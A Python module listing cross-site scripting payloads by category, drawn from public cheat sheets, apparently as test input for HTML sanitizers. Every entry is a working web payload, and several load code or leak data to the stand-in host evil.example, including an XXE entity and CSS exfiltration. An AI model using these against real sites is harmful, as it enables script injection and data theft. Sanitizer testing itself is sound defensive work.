"""Payloads that try to make a page run a script, by kind.

A selection that follows public lists: PortSwigger's cross-site scripting cheat sheet, OWASP's XSS
Filter Evasion Cheat Sheet, PayloadsAllTheThings (XSS Injection), html5sec.org, and for mutations
the published bypasses of DOMPurify and Mozilla's Bleach. A payload that runs calls `alert`, or
sends data to evil.example.
"""

from __future__ import annotations

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script\t>",
    "<script src=//evil.example/a.js></script>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>import('//evil.example/a.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=preload as=image href=//evil.example/a.png>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<portal src=//evil.example/></portal>",
)
ATTRIBUTES = (
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=alert(1) `",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    "<x onclick=alert(1) onpointerenter=alert(1) contenteditable autofocus onfocus=alert(1)>x</x>",
    "<img srcset='//evil.example/a.png 1x'>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
)
FOREIGN = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><image href=//evil.example/a.png></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<?xml-stylesheet type='text/xsl' href='data:text/xml,<x/>'?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/e'>]><x>&e;</x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<![CDATA[<script>alert(1)</script>]]>",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x "
    "onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--a--!><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img src=x onerror=alert(1)>'>",
    "<xmp><img alt='</xmp><img src=x onerror=alert(1)>'>",
)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)",
    "blob:null/alert(1)",
    "https://evil.example/?javascript:alert(1)",
)
TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "${alert(1)}",
    "`${alert(1)}`",
    "<div v-html=\"''.constructor.constructor('alert(1)')()\">x</div>",
    "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>x</div></div>",
    "<!--?lit$012345678$-->",
    "{{lit-0123456789}}<?lit$0$?>",
    '{"__proto__": {"innerHTML": "<img src=x onerror=alert(1)>"}}',
    '{"_$litType$": 1, "strings": ["<img src=x onerror=alert(1)>"], "values": []}',
    "__proto__[innerHTML]=<img src=x onerror=alert(1)>",
    "constructor[prototype][html]=<img src=x onerror=alert(1)>",
)
STYLES = (
    "<style>@import '//evil.example/a.css';</style>",
    "<style>*{background:url(//evil.example/a.png)}</style>",
    "<div style='background:url(//evil.example/a.png)'>x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<div style='-moz-binding:url(//evil.example/a.xml#x)'>x</div>",
    "</style><style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<p style=position:fixed;inset:0;z-index:9999>over everything</p>",
)
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'\"><svg/onload=alert(1)>{{7*7}}${7*7}--><script>alert(1)</script>",
    "\";alert(1);//\\';alert(1);//--></script><img src=x onerror=alert(1)>",
    '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)`1`>',
)
UNICODE = (
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02ba><img src=x onerror=alert(1)>",
    "\u202e>)1(trela=rorreno x=crs gmi<",
    "\u2028alert(1)\u2029//",
    "<img src=x onerror=\u00a0alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
)

PAYLOADS = (
    *(*TAGS, *ATTRIBUTES, *FOREIGN, *MUTATIONS, *URLS, *TEMPLATES, *STYLES, *POLYGLOTS, *UNICODE),
)
